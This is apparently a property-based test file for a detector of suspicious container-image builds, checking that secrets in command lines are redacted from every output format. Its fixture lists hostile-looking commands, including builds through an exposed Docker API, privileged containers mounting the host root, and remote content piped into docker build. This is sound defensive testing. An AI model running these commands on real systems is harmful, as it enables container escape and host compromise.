"""Secrets of a command line appear in nothing that is shown of a finding.

Each line fires signals of HARDENED and holds a secret in one of the spellings; what is
random is the secret. The event itself, which a finding borrows, is no output.
"""

from __future__ import annotations

import io
import json
from collections.abc import Iterator

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from t1612core import Detector, Finding
from t1612core.output import csvfile, explanation, jsonl, table

EXPERT = Detector()
# No part of a line or of a signal is made of these letters.
SECRETS = st.text("QZXV0123456789-_~", min_size=6, max_size=24).map(lambda text: f"Q{text}Z")

BUILD = "docker build -t nginx"
POST = "-X POST http://192.0.2.1:2375/build?remote=https://h.example/x"
LINES = (
    f"{BUILD} https://h.example/x.tar?private_token={{}}&a=b",
    f"{BUILD} https://h.example/x.tar?token={{}}",
    f"{BUILD} https://h.example/x.tar?sv=1&sig={{}}",
    f"{BUILD} https://h.example/x.tar?X-Amz-Signature={{}}",
    f"{BUILD} https://u:{{}}@h.example/x.git",
    f"{BUILD} https://{{}}@h.example/x.git",
    f"{BUILD} git://{{}}@h.example/x.git",
    f"{BUILD} --build-arg A={{}} /tmp/x",
    f"{BUILD} --build-arg=A={{}} /tmp/x",
    f'{BUILD} --build-arg "A=b {{}}" /tmp/x',
    f'{BUILD} --build-arg "A B={{}}" /tmp/x',
    f'{BUILD} "--build-arg" "A={{}}" /tmp/x',
    f"{BUILD} --bu''ild-arg A={{}} /tmp/x",
    f"{BUILD} --build-a A={{}} /tmp/x",
    f"{BUILD} --label token={{}} /tmp/x",
    f"{BUILD} --cache-to type=s3,region=x,secret_access_key={{}},ref=y /tmp/x",
    f"{BUILD} --cache-to type=registry,ref=u:{{}}@r.example/x /tmp/x",
    f"GITHUB_TOKEN={{}} {BUILD} /tmp/x",
    f"sh -c 'export X_SECRET={{}}; {BUILD} /tmp/x'",
    f"sh -c 'docker login -u u -p {{}} && {BUILD} /tmp/x'",
    f"""sh -c '{BUILD} --build-arg "A=a '"'"' {{}}" /tmp/x' """,
    "docker buildx bake --set *.args.X={} --set a.context=/tmp/x",
    "docker buildx bake --set 'a.args.X=b {}' -f /tmp/x",
    "docker buildx bake --var X={} -f /tmp/x",
    "skopeo copy --dest-password {} dir:/tmp/x docker-daemon:a:1",
    "skopeo copy --src-creds u:{} dir:/tmp/x docker-daemon:a:1",
    "docker run -e TOKEN={} --privileged -v /:/h x",
    "docker create --env A={} --privileged -v /:/h x",
    "buildah commit -c 'ENV TOKEN={}' c nginx",
    "docker commit --change 'ENV TOKEN {}' c nginx",
    "bash -c 'openssl enc -d -aes-256-cbc -k {} -in x | docker build -'",
    "bash -c 'openssl enc -d -aes-256-cbc -K {} -iv 0 | docker build -'",
    "bash -c 'openssl enc -d -pass pass:{} -in x | docker build -'",
    "bash -c 'curl https://h.example/D?token={} | docker build -'",
    "bash -c 'curl -u u:{} https://h.example/D | docker build -'",
    "bash -c 'sshpass -p {} ssh h true; docker build /tmp/x'",
    f"curl -H 'PRIVATE-TOKEN: {{}}' {POST}",
    f"curl -H 'JOB-TOKEN: {{}}' {POST}",
    f"curl -H X-Api-Key:{{}} {POST}",
    f'curl -H "Authorization: Bearer {{}}" {POST}',
    f"curl -b session={{}} {POST}",
    f"curl -sSE cert:{{}} {POST}",
    f"curl -x http://u:{{}}@p.example {POST}",
    f"curl -x u:{{}}@p.example {POST}",
    f"curl --user=u:{{}} {POST}",
    f"curl {POST}%3Ftoken%3D{{}}",
    "python3 -c \"import requests;requests.post('http://192.0.2.1:2375/build',auth=('u','{}'))\"",
    "python3 -c \"import docker;c=docker.from_env();c.login('u','{}');c.images.build(path='.')\"",
    "powershell -c \"irm h:2375/build -Method POST -Headers @{{Authorization='{}'}}\"",
    "powershell -c \"irm h:2375/build -Method POST -Headers @{{'JOB-TOKEN'='{}'}}\"",
)


def event(line: str, program: str) -> dict[str, str]:
    return {
        "FileName": program,
        "ProcessCommandLine": line,
        "InitiatingProcessFileName": "nginx",
        "InitiatingProcessCommandLine": line,
        "InitiatingProcessParentFileName": "sshd",
        "AccountName": "www-data",
    }


def program_of(line: str) -> str:
    first = line.split()[0]
    return "bash" if "=" in first else first


def shown(finding: Finding) -> Iterator[str]:
    """Everything that is written of a finding."""
    yield from (finding.detail, finding.description, finding.host, finding.account)
    yield from (seen.text for seen in finding.evidence)
    yield repr(finding.evidence)
    yield json.dumps(jsonl.to_mapping(finding))
    file = io.StringIO()
    csvfile.write([finding], file)
    yield file.getvalue()
    yield repr(list(table.lay_out([finding], 400)))


@pytest.mark.parametrize("line", LINES)
@settings(max_examples=20)
@given(secret=SECRETS)
def test_a_secret_is_in_no_output(line: str, secret: str) -> None:
    made = event(line.format(secret), program_of(line))
    explained = EXPERT.explain(made, kind="process")
    finding = EXPERT.score(made)
    texts = [
        repr(explained.branches),
        json.dumps(explanation.to_mapping(explained)),
        repr(list(explanation.lay_out(explained, "x", 400))),
        *(shown(finding) if finding else ()),
    ]

    assert any(branch.score for branch in explained.branches)
    assert not [text for text in texts if secret in text]
